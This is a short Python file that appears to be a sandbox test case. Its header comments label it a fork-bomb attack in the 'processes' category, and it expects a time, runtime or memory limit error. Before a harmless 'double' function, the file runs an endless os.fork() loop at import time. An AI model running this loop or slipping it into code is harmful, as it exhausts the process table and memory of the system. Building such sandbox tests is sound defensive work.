# attack: fork bomb at import time
# category: processes
# expect: TLE|RE|MLE
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def double(x):
    return (2 * x).reshape(-1)
